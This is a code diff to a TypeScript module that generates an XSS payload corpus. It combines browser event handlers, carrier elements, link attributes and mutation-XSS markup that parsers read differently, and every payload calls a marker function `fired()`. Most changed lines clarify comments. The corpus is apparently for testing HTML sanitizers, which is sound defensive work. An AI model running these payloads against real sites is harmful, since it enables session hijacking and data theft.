@@ -1,8 +1,11 @@
-/** HTML that runs something where nothing holds it: each says so by `fired()`. Made of parts, so that no shape is forgotten. */
+/**
+ * XSS payloads: HTML that runs code where no protection stops it; each calls `fired()`. Combined from parts, so that no
+ * shape is missing.
+ */
 
 const RUN = 'fired()';
 
-/** Handlers that browsers call by themselves, or once somebody presses. */
+/** Handlers that browsers call automatically, or after a click. */
 const EVENTS = [
   ...[
     'load',
@@ -31,7 +34,7 @@ const EVENTS = [
   ...['pointerover', 'pointerenter', 'mouseover', 'wheel', 'copy', 'beforeinput', 'contentvisibilityautostatechange'],
 ];
 
-/** Elements that call some of them, `$` where the handler stands. */
+/** Elements that call some of the handlers; `$` is replaced by the handler. */
 const CARRIERS = [
   ...[
     '<img src=x $>',
@@ -110,7 +113,7 @@ const LED = [
   ],
 ];
 
-/** Pieces that two parsers read in two ways. */
+/** Markup that two parsers parse differently (mutation XSS). */
 const MUTATING = [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
   `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
@@ -154,7 +157,9 @@ const MUTATING = [
   `<plaintext><img src=x onerror=${RUN}>`,
 ];
 
-/** Every payload: handlers in what carries them, addresses in what leads to them, and what parsers disagree about. */
+/**
+ * Every payload: handlers in all carriers, addresses in all link attributes, and markup that parsers disagree about.
+ */
 export const HTML_PAYLOADS: readonly string[] = [
   ...CARRIERS.flatMap((carrier) => EVENTS.map((event) => carrier.replace('$', `on${event}="${RUN}"`))),
   ...LED.flatMap((led) => ADDRESSES.map((address) => led.replace('@', address))),
